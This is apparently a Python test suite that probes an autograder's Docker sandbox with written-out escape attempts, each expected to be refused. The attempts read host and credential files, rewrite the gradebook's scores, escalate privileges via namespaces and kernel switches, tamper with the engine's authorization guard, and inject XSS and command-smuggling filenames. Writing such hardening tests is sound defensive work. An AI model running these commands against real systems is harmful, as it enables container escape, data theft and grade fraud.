"""Read what is none of a learner's business, from the kernel and through the private engine."""
# ruff: noqa: E501  (attackers' scripts are no prettier when they are wrapped)

from __future__ import annotations

from attacks.attack import Attack, Raid, refused, shell

HOSTS = "127.0.0.1 172.17.0.1 172.18.0.1 10.0.2.2 10.0.2.3 192.168.65.2 host.docker.internal @ADDRESS@"
ASK = "curl -sS -m 2 http://{}/"

HOST = Raid(
    "pry",
    quick=True,
    attacks=(
        Attack(
            "files of the host by their paths",
            shell("for f in @FILE@ @GRADEBOOK@ @SOLUTIONS@/hidden.py @ESSAY@ @FEEDBACK@ @KUBECONFIG@; do\n"
                  "  cat $f /proc/1/root$f; done"),
            "(?s)(No such file.*|Permission denied.*){12}code=1",
        ),
        Attack(
            "files of the host through other processes' roots",
            shell("cat /proc/[0-9]*/root@FILE@ /proc/[0-9]*/cwd/../../../../../..@FILE@; cat /proc/[0-9]*/environ > e\n"
                  "ls /proc/1/root /proc/1/fd || true; grep -c . /proc/self/mountinfo; exit 3"),
            "(?s)Permission denied.*code=3",
        ),
        Attack(
            "hidden checks and solutions by searching everything",
            shell("grep -rlsE 'Instructors only: [n]ever released|### BEGIN [S]OLUTION' / --exclude-dir=proc "
                  "--exclude-dir=sys; find / -xdev \\( -name hidden.py -o -name gradebook.db \\) 2>/dev/null; "
                  "echo searched; exit 4", 100),
            "(?s)^searched\\s+code=4",
        ),
        Attack(
            "the judge imported in the sandbox",
            "try:\n    from autograder.labs import find_lab\n"
            "    lab = find_lab('lab1_dockerfile')\n    print(lab.hidden, open(lab.hidden.__file__).read())\n"
            "except BaseException as error:\n    print('no lab:', type(error).__name__)",
            "no lab:",
        ),
        Attack(
            "points written into the gradebook's database",
            "import sqlite3\ntry:\n    with sqlite3.connect('@GRADEBOOK@') as book:\n"
            "        book.execute('update grade set auto_score = 1000'); print('written')\n"
            "except sqlite3.Error as error:\n    print('refused:', error)",
            "refused: unable to open",
        ),
        Attack(
            "what leads out of the sandbox",
            shell("ls -la /run/private /run/private/gate /var/lib/registry /home/engine /run/user/10002; "
                  "curl -sS --unix-socket /var/run/docker.sock http://x/info; "
                  "curl -sS --unix-socket /run/private/gate/docker.sock http://x/info; "
                  "curl -sS --unix-socket /run/private/gate/end.sock http://x/; exit 5"),
            "(?s)Permission denied.*code=5",
        ),
        Attack(
            "the host's disk as a device",
            shell("mknod /tmp/disk b 254 0 || mknod /tmp/disk b 8 0 || mknod /tmp/mem c 1 1; "
                  "for d in /dev/vda /dev/sda /dev/mem /dev/kmsg /proc/kcore; do head -c 1 $d; done; exit 6"),
            "(?s)not permitted.*code=6",
        ),
        Attack(
            "rights by a namespace of one's own",
            shell("unshare -Urm true || unshare -m true || nsenter -t 1 -m true || setpriv --reuid=0 true || "
                  "newuidmap $$ 0 200000 1 || su -c true"),
            "(?s)not permitted.*code=[1-9]",
        ),
        Attack(
            "Linux's own switches",
            shell("echo '|@PWNED@' > /proc/sys/kernel/core_pattern || echo b > /proc/sysrq-trigger || "
                  "echo @PWNED@ > /sys/kernel/uevent_helper || echo 1 > /proc/sys/vm/panic_on_oom"),
            "(?s)(Permission denied|Read-only).*code=[1-9]",
        ),
        Attack(
            "other processes' memory and signals",
            shell("kill -9 1 || true; for p in $(ls /proc | grep -E '^[0-9]+$'); do "
                  "[ $(stat -c %u /proc/$p 2>/dev/null || echo 10001) = 10001 ] || kill -9 $p; done; "
                  "head -c 16 /proc/1/mem; exit 7"),
            "(?s)not permitted.*code=7",
        ),
        Attack(
            "services of the host, the cloud's metadata and the internet",
            shell(f"for a in {HOSTS}; do {ASK.format('$a:@PORT@')}; done; for a in 169.254.169.254 100.100.100.200 "
                  "metadata.google.internal 1.1.1.1 8.8.8.8:53 '[fd00:ec2::254]' pypi.org 172.18.0.2:6443; do "
                  f"{ASK.format('$a')} && echo REACHED; done; exit 8", 60),
            "(?s)(curl: \\(\\d+\\).*){12}code=8",
        ),
        Attack(
            "names that ask the outside (DNS)",
            "import socket\nfor name in ('@PORT@.leak.example.com', 'pypi.org', 'kubernetes.default.svc'):\n"
            "    try:\n        print('REACHED', socket.gethostbyname(name))\n"
            "    except OSError as error:\n        print('no answer:', error)",
            "(?s)(no answer.*){3}",
        ),
        Attack(
            "links that the notebook makes, to files of the host",
            "import os\nfor n, p in enumerate(['@FILE@', '@GRADEBOOK@', '@SOLUTIONS@', '/etc/shadow', '../../..']):\n"
            "    os.symlink(p, f'app/link{n}')\n"
            "os.symlink('@FILE@', 'app/Dockerfile.dockerignore')\nos.remove('app/Dockerfile') if os.path.exists("
            "'app/Dockerfile') else None\nos.symlink('@FILE@', 'app/Dockerfile')\nprint('linked')",
            "linked",
        ),
        Attack(
            "files with names that lead elsewhere or act",
            "import os\nfor n in (b'<img src=x onerror=alert(1)>.html', b'a\\nb', b'\\xff\\xfe', b'-rf', b'$(touch x)',\n"
            "          b'..\\\\..\\\\@WORD@', b'\\xe2\\x80\\xaegnp.exe', b'x' * 240, b'%s%n', b';reboot', b'*'):\n"
            "    open(b'app/' + n, 'wb').write(b'odd')\n"
            "here = 'd'\nfor _ in range(60):\n    os.makedirs(here, exist_ok=True); here += '/d'\n"
            "os.mkfifo('app/fifo'); print('named', len(os.listdir('app')))",
            "named",
        ),
        Attack(
            "a daemon that outlives the kernel and goes on writing",
            shell("cat > /tmp/shipyard-evil <<'X'\n#!/bin/sh\ntrap '' HUP TERM INT\nwhile :; do echo 'FROM scratch' > "
                  "/work/app/Dockerfile; echo late > /work/late; sleep 0.05; done\nX\nchmod +x /tmp/shipyard-evil\n"
                  "for n in 1 2 3; do setsid -f /tmp/shipyard-evil > /dev/null 2>&1 < /dev/null; done\n"
                  # leaders of their sessions only: the child a daemon forks for `sleep` bears its name for a moment
                  "leaders() { ps -eo pid=,sid=,comm= | awk '$1 == $2 && $3 == \"shipyard-evil\"' | wc -l; }\n"
                  "for n in $(seq 50); do [ $(leaders) = 3 ] && break; sleep 0.1; done\nleaders"),
            "(?m)^3$",
        ),
        Attack(
            "HTML and JavaScript for the feedback page",
            "from IPython.display import HTML, Javascript, display\n"
            "display(HTML('<script>steal()</script><img src=x onerror=\"steal()\"><iframe src=//x></iframe>'))\n"
            "display(Javascript('steal()'))\nprint('\\x1b[31m</pre><script>steal()</script>')",
            "steal",
        ),
    ),
)  # fmt: skip

ENGINE = Raid(
    "pry-engine",
    quick=True,
    attacks=(
        *(
            refused(f"docker run {options}", f"docker run --rm {options} python:3.11-slim cat /x@FILE@ @FILE@")
            for options in (
                "--privileged", "-v /:/x", "-v /run/user/10002:/x", "-v /var/lib/engine:/x", "--pid=host",
                "--network=host", "--userns=host", "--cap-add=ALL", "--device=/dev/net/tun",
                "--security-opt seccomp=unconfined", "--mount type=bind,source=/,target=/x", "-v /work:/x",
                "--cgroup-parent=/", "--runtime=io.containerd.runc.v2", "--sysctl net.ipv4.ip_forward=1",
            )
        ),
        refused("a volume that is a folder of the engine's",
                "docker volume create -o type=none -o o=bind -o device=/var/lib/engine x"),
        refused("the engine's plugins", "mkdir -p p/rootfs && echo {} > p/config.json && docker plugin create x p"),
        refused("a swarm whose services mount anything", "docker swarm init --advertise-addr 127.0.0.1"),
        refused("an engine's process with more rights",
                "docker run -d --name e1 python:3.11-slim sleep 20; docker exec --privileged e1 cat @FILE@"),
        refused("a build in the host's network",
                "mkdir -p b && cd b && printf 'FROM python:3.11-slim\\nRUN true\\n' > Dockerfile && "
                "docker build --network=host ."),
        refused("a build step that asks for more rights",
                "mkdir -p c && cd c && printf '# syntax=docker/dockerfile:1-labs\\nFROM python:3.11-slim\\n"
                "RUN --security=insecure cat @FILE@\\n' > Dockerfile && docker build .", "."),
        refused("another engine", "docker -H unix:///var/run/docker.sock ps || docker -H tcp://172.17.0.1:2375 ps", "."),
        Attack(
            "files of the engine's by a link in a container",
            shell("docker create --name l1 python:3.11-slim true && ln -s @FILE@ out && docker cp out l1:/root/x; "
                  "docker run --name m1 python:3.11-slim ln -s /var/lib/engine /link; docker cp m1:/link/. stolen; "
                  "docker cp -L m1:/link - | tar t; exit 9"),
            "(?s)(no such|not find|No such).*code=9",
        ),
        Attack(
            "an image whose layer climbs out of its folder",
            "import io, json, tarfile, hashlib, subprocess\n"
            "def tar(files):\n    data = io.BytesIO()\n    with tarfile.open(fileobj=data, mode='w') as t:\n"
            "        for name, body in files:\n            one = tarfile.TarInfo(name)\n"
            "            if body is None:\n                one.type, one.linkname = tarfile.SYMTYPE, '/'; t.addfile(one)\n"
            "            else:\n                one.size = len(body); t.addfile(one, io.BytesIO(body))\n"
            "    return data.getvalue()\n"
            "layer = tar([('../../../../../../tmp/@WORD@', b'out'), ('l', None), ('l/tmp/@WORD@', b'out')])\n"
            "config = {'architecture': 'amd64', 'os': 'linux', 'config': {}, 'rootfs': {'type': 'layers',\n"
            "    'diff_ids': ['sha256:' + hashlib.sha256(layer).hexdigest()]}}\n"
            "manifest = [{'Config': 'c.json', 'RepoTags': ['climb:1'], 'Layers': ['l.tar']}]\n"
            "image = tar([('c.json', json.dumps(config).encode()), ('l.tar', layer), ('manifest.json', "
            "json.dumps(manifest).encode())])\n"
            "done = subprocess.run(['docker', 'load'], input=image, capture_output=True)\n"
            "import os\nprint('loaded', done.returncode, done.stderr, os.path.exists('/tmp/@WORD@'))",
            "loaded .*False",
        ),
        Attack(
            "out of a container, to the host's services and the internet",
            shell("docker run --rm python:3.11-slim python -c '\n"
                  "import socket\nfor a in \"127.0.0.1 172.17.0.1 172.18.0.1 10.0.2.2 10.0.2.3 @ADDRESS@\".split():\n"
                  "    for port in (@PORT@, 22, 2375, 6443):\n        try:\n"
                  "            s = socket.create_connection((a, port), 1); s.send(b\"GET / HTTP/1.0\\r\\n\\r\\n\"); "
                  "print(\"REACHED\", a, port, s.recv(999))\n        except OSError as e: print(a, \"closed\")\n"
                  "for a in (\"169.254.169.254\", \"1.1.1.1\"):\n    try: socket.create_connection((a, 80), 1); "
                  "print(\"REACHED\", a)\n    except OSError: print(a, \"closed\")'; echo asked", 60),
            "(?s)(closed.*){20}asked",
        ),
        Attack(
            "a fake server in the place of the engine's socket",
            shell("mv /run/engine/docker.sock /tmp/o; rm -f /run/engine/docker.sock; ln -sf /tmp/f /run/engine/docker.sock; "
                  "mkdir /run/engine/x; umount /run/engine; pkill -9 dockerd; pkill -9 guard; pkill -9 rootlesskit; exit 9"),
            "(?s)(denied|not permitted).*code=9",
        ),
        Attack(
            "the guard's own sockets",
            shell("curl -sS --unix-socket /run/guard/authz.sock http://x/Plugin.Activate; "
                  "rm -f /run/guard/authz.sock /run/guard/registry.sock; touch /run/guard/x; "
                  "rm /etc/docker/plugins/guard.spec; [ -S /run/guard/authz.sock ] && exit 9"),
            "(?s)denied.*code=9",
        ),
        Attack(
            "the API's old or unusual spellings",
            shell("for u in /v1.12/containers/x/start /containers%2fcreate //containers/create /v1.41/../containers/create "
                  "/session /grpc /v1.41/plugins/create /v1.41/swarm/init /v1.41/secrets/create /v1.41/configs/create; do\n"
                  "curl -sS -m 5 --path-as-is --unix-socket /run/engine/docker.sock -X POST -H 'Content-Type: application/json' "
                  "-d '{\"Image\":\"python:3.11-slim\",\"hostconfig\":{\"privileged\":true,\"Binds\":[\"/:/x\"]}}' "
                  "http://x$u; done; docker ps -aq | xargs docker inspect -f '{{.HostConfig.Privileged}} {{.HostConfig.Binds}}' | "
                  "grep -E 'true|/:/x' && echo REACHED; exit 9"),
            "(?s)(does not allow.*){5}code=9",
        ),
    ),
)  # fmt: skip
RAIDS = (HOST, ENGINE)
